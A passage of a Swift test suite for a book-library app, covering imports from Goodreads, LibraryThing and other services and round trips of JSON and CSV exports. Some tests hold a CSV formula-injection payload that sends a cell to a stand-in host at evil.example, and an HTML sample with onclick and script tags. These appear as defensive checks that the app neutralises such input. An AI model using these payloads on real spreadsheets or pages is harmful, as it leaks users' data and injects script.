            5\tStarted Only\tWriter, A\t2022-05-03\t\tYour library
            6\tOn The Pile\tWriter, B\t2022-06-01\t\tTo read

            """
        let file = try TestPaths.temporaryFolder("librarything").appendingPathComponent("started.tsv")
        try Data(text.utf8).write(to: file)
        let shelf = try TemporaryShelf()
        let report = try shelf.importer
            .run(file: file, as: .librarything)
        let started = try shelf.library.findBook(matching: "started only")
        let begun = try PartialDate(parsing: "2022-05-03")
        #expect(started.book.status == .reading && started.reads == [ReadRecord(started: begun, outcome: .reading)])
        let pile = try shelf.library.findBook(matching: "on the pile")
        #expect(pile.book.status == .toRead && pile.reads.isEmpty && pile.book.startedDate == nil)
        #expect(
            report.summary.warnings.map { "\($0.line): \($0.message)" } == [
                "3: Date Started '2022-06-01' imported without it: its collection says the book is to read"
            ])
    }

    /// Importing the shelf's own JSON export after mending a book's title added the book again,
    /// each time. Found by an exploratory session. Its slug and first author make it the same book.
    @Test func anExportIsTheSameBookAfterItsTitleIsMended() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(NewBook(title: "Span", authors: ["A B"]))
        let json = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).json()
        try shelf.library.editBook(slug: "span", BookEdit(title: "Span Renamed"))
        let file = shelf.root.appendingPathComponent("export.json")
        try json.write(to: file)
        for _ in 1...2 {
            let report = try shelf.importer
                .run(file: file, as: .bookplate)
            #expect(report.summary.added.isEmpty, "\(report.summary.added)")
        }
        #expect(try shelf.library.books().map(\.book.slug) == ["span"])
        // Another writer's book that took a slug is another book.
        try shelf.library.addBook(NewBook(title: "Dawn", authors: ["Octavia E. Butler"]))
        let other =
            #"{"bookplate": 4, "authors": [], "books": [{"slug": "dawn", "title": "Dawn", "authors": ["Someone Else"], "subjects": [], "status": "to-read", "shelves": [], "added": "2020-01-01T00:00:00Z"}]}"#
        try Data(other.utf8).write(to: file)
        let report = try shelf.importer
            .run(file: file, as: .bookplate)
        #expect(report.summary.added.count == 1)
    }

    /// The JSON export wrote when a book was added to the second: books added in the same second
    /// came back in another order, and the restored shelf's pages differed. Found by an
    /// exploratory session. It keeps the milliseconds; an export without them changes nothing.
    @Test func whenABookWasAddedComesBackToTheMillisecond() throws {
        let moment = Date(timeIntervalSince1970: 1_767_225_600.745)
        let shelf = try TemporaryShelf(clock: .fixed(moment))
        try shelf.library.addBook(NewBook(title: "Span", authors: ["A B"]))
        let json = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).json()
        #expect(String(decoding: json, as: UTF8.self).contains("\"added\" : \"2026-01-01T00:00:00.745Z\""))
        let fresh = try TemporaryShelf()
        let file = try fresh.importExport(json)
        #expect(
            try fresh.library.findBook(matching: "span").book.addedAt
                == shelf.library.findBook(matching: "span").book.addedAt)
        // An export of before, to the second, is no change to the library it came from.
        let older = String(decoding: json, as: UTF8.self).replacingOccurrences(of: ".745Z", with: "Z")
        try Data(older.utf8).write(to: file)
        let again = try shelf.importer.run(file: file, as: .bookplate)
        #expect(again.summary.unchanged == 1 && again.summary.updated.isEmpty)
    }

    /// A book added on the slug of a removed one took its ids in the site's feeds (found by an
    /// exploratory session); it is now the second book on its slug. The JSON export carries
    /// which a book is (`feedNumber`, absent for the first), and the numbers of books purged
    /// (`feedNumbersGone`), so that a shelf moved by it keeps its feeds' ids, removed books' too,
    /// and gives none again; a book that is not new to a shelf's slug there, or comes from a
    /// reading log, is the next on it.
    @Test func theJSONExportCarriesWhichBookOfItsSlugEachIs() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(NewBook(title: "Dune", authors: ["Frank Herbert"]))
        try shelf.library.removeBook(slug: "dune", at: TemporaryShelf.fixedDate)
        // Added later than the first, which the import would take for the same book restored.
        let library = try Library.open(
            at: shelf.paths.library, clock: .fixed(TemporaryShelf.fixedDate.addingTimeInterval(60)))
        #expect(try library.addBook(NewBook(title: "Dune", authors: ["Brian Herbert"])).book.feedNumber == 2)
        try library.addBook(NewBook(title: "Emma", authors: ["Jane Austen"]))
        // A book purged is gone, and its ids with it.
        try library.addBook(NewBook(title: "Kindred", authors: ["Octavia E. Butler"]))
        try library.removeBook(slug: "kindred", at: TemporaryShelf.fixedDate)
        _ = try library.purgeRemovedBook(try library.findRemovedBook(matching: "kindred"))
        let json = try LibraryExporter(library: library, notes: NoteStore(folder: shelf.paths.notes)).json()
        let text = String(decoding: json, as: UTF8.self)
        #expect(text.components(separatedBy: "\"feedNumber\" : 2").count == 2)
        #expect(text.contains("\"feedNumbersGone\" : {\n    \"kindred\" : [\n      1\n    ]\n  }"), "\(text)")

        let fresh = try TemporaryShelf()
        let file = try fresh.importExport(json)
        #expect(
            try fresh.library.books().map { [$0.book.slug, $0.book.feedNumber.map(String.init)] } == [
                ["dune", "2"], ["emma", nil],
            ])
        // The removed Dune is the first, here too, and the next Dune the third.
        try fresh.library.removeBook(slug: "dune", at: TemporaryShelf.fixedDate)
        let frank = try fresh.library.findRemovedBook(matching: "frank")
        #expect(try fresh.library.restoreBook(frank).book.feedNumber == nil)
        try fresh.library.removeBook(slug: "dune", at: TemporaryShelf.fixedDate.addingTimeInterval(1))
        #expect(try fresh.library.addBook(NewBook(title: "Dune", authors: ["Kevin J. Anderson"])).book.feedNumber == 3)
        #expect(
            try fresh.library.addBook(NewBook(title: "Kindred", authors: ["Octavia E. Butler"])).book.feedNumber == 2)

        // Where its number was another book's, the book is the next on its slug.
        let other = try TemporaryShelf()
        try other.library.addBook(NewBook(title: "Dune", authors: ["Someone Else"]))
        try other.library.removeBook(slug: "dune", at: TemporaryShelf.fixedDate.addingTimeInterval(5))
        try other.library.addBook(NewBook(title: "Dune", authors: ["A Third"]))
        try other.library.removeBook(slug: "dune", at: TemporaryShelf.fixedDate.addingTimeInterval(6))
        _ = try other.importer.run(
            file: file, as: .bookplate)
        #expect(try other.library.findBook(matching: "dune").book.feedNumber == 3)
        // A reading log's book on a slug a removed book had is the next on it too.
        try other.library.removeBook(slug: "emma", at: TemporaryShelf.fixedDate.addingTimeInterval(7))
        let csv = other.root.appendingPathComponent("goodreads.csv")
        try Data("Book Id,Title,Author,Exclusive Shelf\n1,Emma,Emma Tennant,to-read\n".utf8).write(to: csv)
        _ = try other.importer.run(
            file: csv, as: .goodreads)
        #expect(try other.library.findBook(matching: "emma").book.feedNumber == 2)
    }

    /// A file saved as UTF-16 (LibraryThing's tab-separated export, a spreadsheet on Windows) was
    /// "no Title column". Found by an exploratory session.
    @Test func aFileInUTF16IsRead() throws {
        let text = "Book Id\tTitle\tPrimary Author\n1\tCien años de soledad\tGarcía Márquez, Gabriel\n"
        for (name, encoding) in [("le.tsv", String.Encoding.utf16LittleEndian), ("be.tsv", .utf16BigEndian)] {
            let mark: [UInt8] = encoding == .utf16LittleEndian ? [0xFF, 0xFE] : [0xFE, 0xFF]
            let file = try TestPaths.temporaryFolder("utf16").appendingPathComponent(name)
            try (Data(mark) + (try #require(text.data(using: encoding)))).write(to: file)
            let shelf = try TemporaryShelf()
            let report = try shelf.importer
                .run(file: file, as: .librarything)
            #expect(report.summary.added.count == 1, "\(name)")
            let book = try shelf.library.findBook(matching: "cien años de soledad")
            #expect(book.authors.map(\.name) == ["Gabriel García Márquez"], "\(name)")
        }
        // One cut off was "cannot be read: check the path and its permissions".
        let cut = try TestPaths.temporaryFolder("utf16").appendingPathComponent("cut.tsv")
        try Data([0xFF, 0xFE, 0x42, 0x00, 0x6F]).write(to: cut)
        #expect(
            throws: ImportError.brokenUTF16(
                path: cut.relativePathForDisplay,
                reason: "it has an odd number of bytes, as if cut off in the middle of a character")
        ) {
            try ImportFile.read(contentsOf: cut, as: .librarything)
        }
    }

    /// An export read from a pipe (`cat export.csv | bookplate import goodreads /dev/stdin`, or
    /// `<(…)`) lost its first two bytes: the reader looked for a UTF-16 byte-order mark and sought
    /// back, which a pipe cannot do, so Goodreads' file came in without its Book Id column and
    /// StoryGraph's was "not a StoryGraph export"; Bookplate's JSON and a Kindle's clippings
    /// "cannot be read", and a Kobo's database was "empty". Found by an exploratory session. A
    /// pipe is read as the file is, and a Kobo's database is asked for as a file in one line.
    @Test func anExportReadFromAPipeIsReadAsTheFileIs() throws {
        let folder = try TestPaths.temporaryFolder("pipe")
        /// Reads `bytes` through a named pipe, as a shell's `<(…)` hands them, with `read`.
        func throughAPipe<Value>(_ bytes: Data, _ read: (URL) throws -> Value) throws -> Value {
            let pipe = folder.appendingPathComponent(UUID().uuidString)
            #expect(mkfifo(pipe.path, 0o600) == 0)
            let writer = Background {
                let handle = try FileHandle(forWritingTo: pipe)
                try handle.write(contentsOf: bytes)
                try handle.close()
            }
            defer { _ = try? writer.value() }
            return try read(pipe)
        }
        let goodreads = Data(
            ("\u{FEFF}Book Id,Title,Author,ISBN13,Exclusive Shelf\n"
                + "4671,The Great Gatsby,F. Scott Fitzgerald,\"=\"\"9780743273565\"\"\",read\n").utf8)
        let piped = try throughAPipe(goodreads) { try ImportFile.read(contentsOf: $0, as: .goodreads) }
        #expect(piped.records.map(\.sourceID) == ["4671"] && piped.records.map(\.book.title) == ["The Great Gatsby"])
        let storyGraph = try Data(contentsOf: TestPaths.fixtures.appendingPathComponent("imports/storygraph.csv"))
        let stories = try throughAPipe(storyGraph) { try ImportFile.read(contentsOf: $0, as: .storygraph) }
        #expect(stories.records.count == 4)
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(NewBook(title: "Kindred", authors: ["Octavia E. Butler"]))
        let json = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).json()
        let own = try throughAPipe(json) { try ImportFile.read(contentsOf: $0, as: .bookplate) }
        #expect(own.records.map(\.book.title) == ["Kindred"])
        let clippings = Data(
            ("Dune (Frank Herbert)\n- Your Highlight on page 1 | Location 1-2 | Added on Monday, 1 January 2024 "
                + "00:00:00\n\nFear is the mind-killer.\n==========\n").utf8)
        let kindle = try throughAPipe(clippings) { try HighlightFile.read(contentsOf: $0, as: .kindle) }
        #expect(kindle.highlights.map(\.highlight.text) == ["Fear is the mind-killer."])
        try throughAPipe(Data("SQLite format 3\0".utf8)) { pipe in
            #expect {
                try HighlightFile.read(contentsOf: pipe, as: .kobo)
            } throws: { error in
                "\(error)".contains("a pipe is not a database file SQLite can open")
            }
            // Read, so that the writer is let go.
            _ = FileHandle(forReadingAtPath: pipe.path)?.readDataToEndOfFile()
        }
    }

    /// LibraryThing's tab-separated file was read with CSV's quoting: a title opening with a
    /// quote took the rest of its row (and a review of one quote mark the rest of the file), and
    /// quotes in the text were lost. Found by an exploratory session. Only a field quoted whole on
    /// its line is read as quoted; every other quote is text.
    @Test func quotesInALibraryThingFileAreText() throws {
        let header = "Book Id\tTitle\tPrimary Author\tReview\tISBN\n"
        let rows = [
            "1\t\"Surely You're Joking, Mr. Feynman!\": Adventures of a Curious Character\tFeynman, Richard\t\t\n",
            "2\t\"Unbalanced start\tA, B\tHe said \"hi\t\n",
            "3\tQuote\tWriter, A\t\"\t\n",
            "4\tQuoted Review\tWriter, B\t\"quoted review\" then more\t\n",
            "5\t\"Wholly quoted, \"\"doubled\"\"\"\tWriter, C\t\t\n",
        ]
        let file = try TestPaths.temporaryFolder("librarything").appendingPathComponent("librarything.tsv")
        try Data((header + rows.joined()).utf8).write(to: file)
        let shelf = try TemporaryShelf()
        let report = try shelf.importer
            .run(file: file, as: .librarything)
        #expect(report.summary.added.count == 5 && report.summary.skipped.isEmpty, "\(report.summary.skipped)")
        let titles = try shelf.library.books().map(\.book.title).sorted()
        #expect(
            titles == [
                "\"Surely You're Joking, Mr. Feynman!\": Adventures of a Curious Character", "\"Unbalanced start",
                "Quote", "Quoted Review", "Wholly quoted, \"doubled\"",
            ])
        #expect(try shelf.library.findBook(matching: "unbalanced start").authors.map(\.name) == ["B A"])
        let notes = NoteStore(folder: shelf.paths.notes)
        #expect(try notes.readNote(at: notes.url(forSlug: "unbalanced-start")).contains("He said \"hi"))
        #expect(try notes.readNote(at: notes.url(forSlug: "quoted-review")).contains("\"quoted review\" then more"))
    }
}

@Suite struct ExportTests {
    /// Export, import into a fresh shelf, export again: the same bytes, in both formats.
    @Test func exportsRoundTripByteForByte() throws {
        let shelf = try FixtureShelf.make()
        _ = try shelf.importer
            .run(file: TestPaths.fixtures.appendingPathComponent("imports/goodreads-quirks.csv"), as: .goodreads)
        try ExportRoundTrip.expectSameBytes(from: shelf)
    }

    /// A book added at 20:00 in Los Angeles on 1 May 2024 and finished that evening went out in
    /// the CSV as read on 2024/05/01 and added on 2024/05/02, UTC's day (found by an exploratory
    /// session). Its Date Added is the reader's day, and a shelf in the same zone that imports the
    /// file takes it as that day: its export is the same file, and importing it again changes
    /// nothing.
    @Test func theCSVsDateAddedIsTheReadersDay() throws {
        let losAngeles = try #require(TimeZone(identifier: "America/Los_Angeles"))
        // 2024-05-01T20:00 in Los Angeles, 2024-05-02T03:00 in UTC.
        let clock = WallClock.fixed(Date(timeIntervalSince1970: 1_714_618_800), in: losAngeles)
        let shelf = try TemporaryShelf(clock: clock)
        try shelf.library.addBook(
            NewBook(
                title: "Evening Book", authors: ["Ann Author"], status: .read,
                finishedDate: try PartialDate(parsing: "2024-05-01")))
        let csv = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
            .goodreadsCSV()
        let records = CSVParser().parse([UInt8](csv))
        let row = Dictionary(uniqueKeysWithValues: zip(records[0].fields, records[1].fields))
        #expect(row["Date Read"] == "2024/05/01" && row["Date Added"] == "2024/05/01")
        let file = try TestPaths.temporaryFolder("date-added").appendingPathComponent("export.csv")
        try csv.write(to: file)
        let again = try shelf.importer.run(
            file: file, as: .goodreads)
        #expect(again.summary.unchanged == 1 && again.summary.updated.isEmpty)
        let fresh = try TemporaryShelf(clock: clock)
        _ = try fresh.importer.run(
            file: file, as: .goodreads)
        let second = try LibraryExporter(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes))
            .goodreadsCSV()
        #expect(csv == second, "\(GoldenFiles.readableDiff(csv, second))")
    }

    /// A CSV exported in Kiritimati (UTC+14), where it was already the 28th, and imported in Los
    /// Angeles on the 27th moved the book's time added to Los Angeles' tomorrow, and said
    /// "updated" (found by a review). A day the library's time is on somewhere tells no more, and
    /// no time added is after now.
    @Test func aDateAddedFromAcrossTheDateLineTellsNoMore() throws {
        let losAngeles = try #require(TimeZone(identifier: "America/Los_Angeles"))
        // 2026-11-27T10:32Z: 02:32 on the 27th in Los Angeles, 00:32 on the 28th in Kiritimati.
        let moment = Date(timeIntervalSince1970: 1_795_775_520)
        let shelf = try TemporaryShelf(clock: WallClock.fixed(moment, in: losAngeles))
        try shelf.library.addBook(NewBook(title: "Tz Book", authors: ["Ann Author"]))
        let file = try TestPaths.temporaryFolder("date-line").appendingPathComponent("export.csv")
        try Data("Title,Author,Exclusive Shelf,Date Added\nTz Book,Ann Author,to-read,2026/11/28\n".utf8).write(
            to: file)
        let again = try shelf.importer.run(
            file: file, as: .goodreads)
        #expect(again.summary.unchanged == 1 && again.summary.updated.isEmpty)
        #expect(try shelf.library.findBook(matching: "tz-book").book.addedAt == moment)
        // A new book dated so is added now, not tomorrow.
        try Data("Title,Author,Exclusive Shelf,Date Added\nOther Book,Ann Author,to-read,2026/11/28\n".utf8).write(
            to: file)
        _ = try shelf.importer.run(
            file: file, as: .goodreads)
        #expect(try shelf.library.findBook(matching: "other-book").book.addedAt == moment)
    }

    /// The CSV export left subtitles out ("The Dispossessed", where Goodreads writes "The
    /// Dispossessed: An Ambiguous Utopia"). Found by an exploratory session. It now writes them as
    /// Goodreads does, and importing the file again finds the same book, never a second one.
    @Test func aSubtitleGoesOutAsGoodreadsWritesItAndComesBackToItsBook() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(
            NewBook(title: "The Dispossessed", subtitle: "An Ambiguous Utopia", authors: ["Ursula K. Le Guin"]))
        let exporter = LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
        let csv = try exporter.goodreadsCSV()
        let records = CSVParser().parse([UInt8](csv))
        let row = Dictionary(uniqueKeysWithValues: zip(records[0].fields, records[1].fields))
        #expect(row["Title"] == "The Dispossessed: An Ambiguous Utopia")
        let file = try TestPaths.temporaryFolder("subtitle").appendingPathComponent("export.csv")
        try csv.write(to: file)
        let again = try shelf.importer.run(
            file: file, as: .goodreads)
        #expect(again.summary.unchanged == 1 && again.summary.added.isEmpty)
        #expect(try shelf.library.books().count == 1)
        // Into a fresh shelf the whole title comes in, and goes out again the same.
        let fresh = try TemporaryShelf()
        _ = try fresh.importer.run(
            file: file, as: .goodreads)
        #expect(
            try fresh.library.findBook(matching: "the-dispossessed-an-ambiguous-utopia").book.title
                == "The Dispossessed: An Ambiguous Utopia")
        let second = try LibraryExporter(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes))
            .goodreadsCSV()
        #expect(csv == second, "\(GoldenFiles.readableDiff(csv, second))")
    }

    /// A cell that starts like a formula is one to a spreadsheet: `=HYPERLINK(…&A1…)` would send
    /// the next cell to a stranger. Such cells get a leading quote (OWASP's rule), which the
    /// Goodreads import takes off again, so the round trip stays byte for byte.
    @Test func csvCellsThatLookLikeFormulasAreNeutralisedAndRoundTrip() throws {
        let shelf = try TemporaryShelf()
        let title = #"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#
        let book = try shelf.library.addBook(
            NewBook(
                title: title, authors: ["@Someone", "+Plus One"], publisher: "-Minus Press", status: .read,
                rating: try Rating(2), shelves: ["=SUM(A1:A9)"]))
        try NoteStore(folder: shelf.paths.notes).writeNote(
            "-1 stars.\u{0}\n\n=1+1 is not a review\n", forSlug: book.book.slug)
        let exporter = LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
        let first = try exporter.goodreadsCSV()
        #expect(!first.contains(0))
        let records = CSVParser().parse([UInt8](first))
        let header = records[0].fields
        let row = Dictionary(uniqueKeysWithValues: zip(header, records[1].fields))
        #expect(row["Title"] == "'" + title)
        #expect(row["Author"] == "'@Someone" && row["Additional Authors"] == "'+Plus One")
        #expect(row["Publisher"] == "'-Minus Press")
        #expect(row["Bookshelves"] == "'=SUM(A1:A9), read")
        #expect(row["My Review"] == "'-1 stars.\n\n=1+1 is not a review")
        // Bookplate's own formulas, as Goodreads writes ISBNs, and plain numbers stay as they are.
        #expect(row["ISBN"] == #"="""# && row["My Rating"] == "2")
        for field in records[1].fields where !field.hasPrefix("=\"") {
            #expect(!"=+-@\t\r".contains(field.first ?? " "), "\(field)")
        }

        let file = try TestPaths.temporaryFolder("export").appendingPathComponent("export.csv")
        try first.write(to: file)
        let fresh = try TemporaryShelf()
        let report = try fresh.importer.run(
            file: file, as: .goodreads)
        #expect(report.summary.added.count == 1 && report.summary.skipped.isEmpty)
        let imported = try fresh.library.findBook(matching: book.book.slug)
        #expect(imported.book.title == title && imported.authors.map(\.name) == ["@Someone", "+Plus One"])
        let second = try LibraryExporter(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes))
            .goodreadsCSV()
        #expect(first == second, "\(GoldenFiles.readableDiff(first, second))")
    }

    /// A book added at .097 s was "updated" by every import of the shelf's own export, and the
    /// library's revision with it (found by an exploratory session): times agree to the
    /// millisecond, as exports write them.
    @Test func theShelfsOwnExportImportedAgainChangesNothing() throws {
        let shelf = try TemporaryShelf()
        let json = #"""
            {"bookplate": 4, "authors": [{"name": "Marcus Aurelius", "slug": "marcus-aurelius", "sortName": "Aurelius, Marcus"}],
             "books": [{"added": "2026-11-26T08:28:14.097Z", "authors": ["Marcus Aurelius"], "reads": [], "shelves": [],
             "slug": "meditations", "status": "to-read", "subjects": [], "title": "Meditations"}]}
            """#
        let file = try TestPaths.temporaryFolder("ms").appendingPathComponent("one.json")
        try Data(json.utf8).write(to: file)
        let importer = shelf.importer
        #expect(try importer.run(file: file, as: .bookplate).summary.added == ["meditations"])
        let revision = try shelf.library.revision()
        let again = try importer.run(file: file, as: .bookplate).summary
        #expect(again.updated.isEmpty && again.unchanged == 1, "\(again)")
        #expect(try shelf.library.revision() == revision)
    }

    /// A time of .027 s is a binary fraction a hair under it, and the formatter cut it to .026:
    /// an export imported and exported again moved by a millisecond (found by an exploratory
    /// session). Every millisecond of a second comes back as it was written.
    @Test func aTimeWithMillisecondsComesBackAsItWasWritten() throws {
        for millisecond in 0..<1000 {
            let text = "2026-11-26T07:30:13.\(String(String(millisecond + 1000).dropFirst()))Z"
            let date = try #require(LibraryExporter.moment(text))
            #expect(LibraryExporter.timestamp(date, milliseconds: true) == text)
        }
        #expect(
            LibraryExporter.timestamp(Date(timeIntervalSince1970: 1_795_677_013.9996), milliseconds: true)
                == "2026-11-26T07:10:14.000Z")
        #expect(LibraryExporter.timestamp(Date(timeIntervalSince1970: 1_795_677_013.9996)) == "2026-11-26T07:10:13Z")
    }

    /// The shelf's own export cut a note of 1.5 million characters to a million on the way back,
    /// though the build publishes notes up to 4 MB (found by an exploratory session).
    @Test func theShelfsOwnExportBringsALongNoteBackWhole() throws {
        let shelf = try TemporaryShelf()
        let book = try shelf.library.addBook(NewBook(title: "Big Note", authors: ["N"]))
        let note = String(repeating: "My journal line.\n", count: 90_000)
        try NoteStore(folder: shelf.paths.notes).writeNote(note, forSlug: book.book.slug)
        let json = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
            .json()
        let file = try TestPaths.temporaryFolder("long-note").appendingPathComponent("shelf.json")
        try json.write(to: file)
        let fresh = try TemporaryShelf()
        let report = try fresh.importer.run(
            file: file, as: .bookplate)
        #expect(report.summary.warnings.isEmpty)
        #expect(try NoteStore(folder: fresh.paths.notes).note(forSlug: book.book.slug) == note)
    }

    /// A note of no book was left out of the export without a word, though a build says it is
    /// kept (found by an exploratory session): the export says so. One named for a book in
    /// another case (`Emma.md`) is told its name, as a build tells it.
    @Test func aNoteOfNoBookLeftOutOfTheExportIsSaid() throws {
        let shelf = try TemporaryShelf()
        try shelf.library.addBook(NewBook(title: "Emma", authors: ["Jane Austen"]))
        try shelf.writeNote("Which book?", slug: "kindered")
        try shelf.writeNote("Box Hill.", slug: "emma")
        try shelf.writeNote("Donwell Abbey.", slug: "Emma")
        let said = Mutex<[String]>([])
        let exporter = LibraryExporter(
            library: shelf.library, notes: NoteStore(folder: shelf.paths.notes),
            warn: { message in said.withLock { $0.append(message) } })
        _ = try exporter.json()
        #expect(
            said.withLock { $0 } == [
                "\(shelf.paths.notes.appendingPathComponent("Emma.md").path) belongs to no book on the shelf: "
                    + "it is not in the export (a note is named for its book's slug, as emma.md)",
                "\(shelf.paths.notes.appendingPathComponent("kindered.md").path) belongs to no book on the shelf: "
                    + "it is not in the export",
            ])
    }

    /// A note of 5.7 MB with accents was cut to 4,194,304 characters, more bytes than a build
    /// publishes, so it lost its end and was still left off its page (found by an exploratory
    /// session). It is cut to what a build publishes, at a whole character.
    @Test func aNoteTooLongToPublishIsCutToWhatABuildPublishes() throws {
        var note = String(repeating: "Éé", count: 1_500_000) + "ending"
        let warning = try #require(ImportLimits.cut(&note, toBytes: NoteStore.largestPublished, "the note"))
        #expect(note.utf8.count <= NoteStore.largestPublished && note.utf8.count > NoteStore.largestPublished - 4)
        #expect(note.hasPrefix("ÉéÉé") && note.hasSuffix("Éé") && !note.contains("ending"))
        #expect(warning.hasPrefix("the note is 6000006 bytes long: cut to the first 4194304"))
        var short = "short"
        #expect(ImportLimits.cut(&short, toBytes: 10, "the note") == nil && short == "short")
        var marks = "e\u{301}e\u{301}"
        _ = ImportLimits.cut(&marks, toBytes: 4, "the note")
        #expect(marks == "e\u{301}")
    }

    /// A note with Windows line breaks was written unquoted (`"\r\n"` is one Swift Character,
    /// equal to neither `"\r"` nor `"\n"`): the row broke in two, and importing the file cut
    /// the note and made a book of its second line (found by an exploratory session).
    @Test func aNoteWithWindowsLineBreaksStaysInItsCell() throws {
        let shelf = try TemporaryShelf()
        let book = try shelf.library.addBook(NewBook(title: "Note CRLF", authors: ["C"]))
        try NoteStore(folder: shelf.paths.notes).writeNote("line one\r\nline two\r\n", forSlug: book.book.slug)
        let csv = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
            .goodreadsCSV()
        let records = CSVParser().parse([UInt8](csv))
        #expect(records.count == 2)
        let row = Dictionary(uniqueKeysWithValues: zip(records[0].fields, records[1].fields))
        #expect(row["My Review"]?.contains("line two") == true)

        let file = try TestPaths.temporaryFolder("crlf").appendingPathComponent("export.csv")
        try csv.write(to: file)
        let fresh = try TemporaryShelf()
        let report = try fresh.importer.run(
            file: file, as: .goodreads)
        #expect(report.summary.added.count == 1 && report.summary.skipped.isEmpty)
        let note = try #require(try NoteStore(folder: fresh.paths.notes).note(forSlug: book.book.slug))
        #expect(note.contains("line one") && note.contains("line two"))
    }

    /// `=` and a combining mark make one character that is not `=`; a spreadsheet still reads a
    /// formula. Found by the FuzzExport fuzzer: cells are judged by their first Unicode scalar.
    @Test func aFormulaHiddenBehindACombiningMarkIsNeutralisedToo() {
        for cell in ["=\u{301}1+1", "+\u{308}A1", "-\u{20DD}2", "@\u{301}SUM(A1)", "\r\n=1", "\t\u{301}x"] {
            let neutralised = SpreadsheetCell.neutralised(cell)
            #expect(neutralised == "'" + cell, "\(cell.debugDescription)")
            #expect(SpreadsheetCell.restored(neutralised) == cell, "\(cell.debugDescription)")
        }
        #expect(SpreadsheetCell.restored("'\u{301}x") == "'\u{301}x")
    }

    /// A title that begins with its own quote before a formula's character (`'=already quoted`)
    /// was written as it was, and read back without its quote: the CSV round trip changed it
    /// (found by an exploratory session). It now gets one more quote, which reading takes off.
    @Test func aCellThatAlreadyBeginsWithAQuoteComesBackWhole() {
        for cell in ["'=already quoted", "'+1", "''-2", "'@x", "'plain", "''", "'"] {
            let neutralised = SpreadsheetCell.neutralised(cell)
            #expect(neutralised.first == "'" || !cell.hasPrefix("'"))
            #expect(SpreadsheetCell.restored(neutralised) == cell, "\(cell.debugDescription) → \(neutralised)")
        }
        #expect(SpreadsheetCell.neutralised("'=already quoted") == "''=already quoted")
        #expect(SpreadsheetCell.neutralised("'plain") == "'plain")
    }

    /// A comma separates shelves in every export's shelf column, so a shelf named with one came
    /// back from a CSV export as two (found by the FuzzExport fuzzer, whose input is in its corpus
    /// as `shelf-name-with-a-comma`). Commas now separate shelves wherever names come in.
    @Test func aCommaInAShelfNameMakesTwoShelves() throws {
        let shelf = try TemporaryShelf()
        let book = try shelf.library.addBook(
            NewBook(title: "T", authors: ["A"], shelves: ["sci-fi, favourites", " , "]))
        #expect(book.shelves.map(\.name).sorted() == ["favourites", "sci-fi"])
        let edited = try shelf.library.editBook(
            slug: book.book.slug, BookEdit(addShelves: ["one,two"], removeShelves: ["sci-fi, favourites"]))
        #expect(edited.shelves.map(\.name).sorted() == ["one", "two"])
    }

    @Test func theJSONExportHoldsEverything() throws {
        let shelf = try FixtureShelf.make()
        let data = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).json()
        let document = try JSONDecoder().decode(LibraryExportDocument.self, from: data)
        #expect(document.books.count == 5)
        let fledgling = try #require(document.books.first { $0.slug == "fledgling" })
        #expect(fledgling.note?.hasPrefix("# First thoughts") == true)
        #expect(fledgling.shelves == ["Book Club", "sci-fi"])
        let butler = try #require(document.authors.first { $0.slug == "octavia-e-butler" })
        #expect(butler.works?.count == 3 && butler.links?.count == 2)
    }
}

extension ExportTests {
    /// Exports before format 2 held descriptions as plain text; they come in as escaped paragraphs,
    /// and a format-2 description is allow-listed like any other.
    @Test func descriptionsFromEachExportFormatComeInSafely() throws {
        for (version, description, expected) in [
            (1, "Plain <b>text</b> & more.\n\nTwo.", "<p>Plain &lt;b&gt;text&lt;/b&gt; &amp; more.</p>\n<p>Two.</p>"),
            (2, "<p onclick=\"x\">Kept <b>bold</b></p><script>alert(1)</script>", "<p>Kept <strong>bold</strong></p>"),
        ] {
            let json = """
                {"bookplate": \(version), "authors": [], "books": [{"slug": "emma", "title": "Emma", "authors": [],
                "description": \(String(decoding: try JSONEncoder().encode(description), as: UTF8.self)),
                "subjects": [], "status": "read", "shelves": [], "added": "2024-01-01T00:00:00Z"}]}
                """
            let file = try TestPaths.temporaryFolder("export").appendingPathComponent("v\(version).json")
            try Data(json.utf8).write(to: file)
            let shelf = try TemporaryShelf()
            let report = try shelf.importer
                .run(file: file, as: .bookplate)
            #expect(report.summary.skipped.isEmpty && report.summary.added == ["emma"])
            #expect(
                try shelf.library.findBook(matching: "emma").book.description?.html == expected, "format \(version)")
        }
    }
}

@Suite struct ImportEdgeTests {
    func importText(_ text: String, into shelf: TemporaryShelf) throws -> ShelfImport.Report {
        let file = try TestPaths.temporaryFolder("edge").appendingPathComponent("export.csv")
        try Data(text.utf8).write(to: file)
        return try shelf.importer.run(
            file: file, as: .goodreads)
    }

    static let header =
        "Book Id,Title,Author,ISBN,ISBN13,My Rating,Year Published,Original Publication Year,Exclusive Shelf\n"

    /// A shelf the reader made exclusive on Goodreads names no status: a book on it with a date
    /// read was imported as a book to read, finished, with no read (found by an exploratory
    /// session). It was read; the shelf is kept as a shelf.
    @Test func aBookOnAnExclusiveShelfOfTheReadersOwnWithADateReadWasRead() throws {
        let shelf = try TemporaryShelf()
        let text =
            "Book Id,Title,Author,Exclusive Shelf,Date Read\n1,Dune,Frank Herbert,paused,2024/03/14\n"
            + "2,Emma,Jane Austen,owned,\n"
        _ = try importText(text, into: shelf)
        let dune = try shelf.library.findBook(matching: "dune")
        #expect(dune.book.status == .read && dune.reads.map(\.finished?.description) == ["2024-03-14"])
        #expect(dune.shelves.map(\.name) == ["paused"])
        #expect(try shelf.library.findBook(matching: "emma").book.status == .toRead)
    }

    /// A book read before and shelved to read again: Goodreads keeps its Date Read on the to-read
